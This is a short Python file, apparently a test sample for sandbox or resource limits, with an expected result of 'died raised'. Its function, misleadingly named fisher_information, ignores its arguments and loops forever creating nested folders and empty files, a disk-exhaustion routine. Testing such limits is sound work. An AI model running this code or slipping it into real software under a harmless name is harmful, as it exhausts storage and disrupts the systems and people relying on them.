"""Makes empty files and nested folders without end."""

import os

EXPECTED = "died raised"


def fisher_information(alpha, beta, parameterization="scale"):
    while True:
        os.makedirs("d/" * 100, exist_ok=True)
        os.chdir("d/" * 100)
        for number in range(100):
            open(str(number), "w").close()
